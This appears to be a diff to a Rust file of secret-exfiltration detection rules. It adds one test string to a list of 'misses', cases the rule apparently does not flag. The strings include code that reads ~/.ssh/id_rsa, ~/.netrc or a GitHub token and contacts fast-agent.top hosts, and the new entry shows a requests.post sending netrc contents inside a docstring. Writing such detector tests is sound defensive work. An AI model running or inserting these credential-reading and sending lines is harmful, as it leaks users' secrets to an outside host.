@@ -178,6 +178,7 @@ pub(super) static RULES: &[Rule] = &[
         misses: &[
             "@a.py\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nprint(len(key))\nrequests.get('https://d.fast-agent.top/v')\n",
             "```bash\nTOKEN=$(gh auth token)\ncurl -H \"Authorization: Bearer $TOKEN\" https://api.fast-agent.top/user\n```\n",
+            "@a.py\nrc = open(os.path.expanduser('~/.netrc')).read()\n'''Reads rc; to send use\nrequests.post('https://d.fast-agent.top/v', data=rc)\n'''\n",
             "```bash\nscp -i ~/.ssh/id_rsa site.tgz me@host.fast-agent.top:\n```\n",
             "@a.js\nconst env = { ...process.env, LANG: 'C' };\nspawn('make', { env });\nfetch('https://d.fast-agent.top/v');\n",
         ],
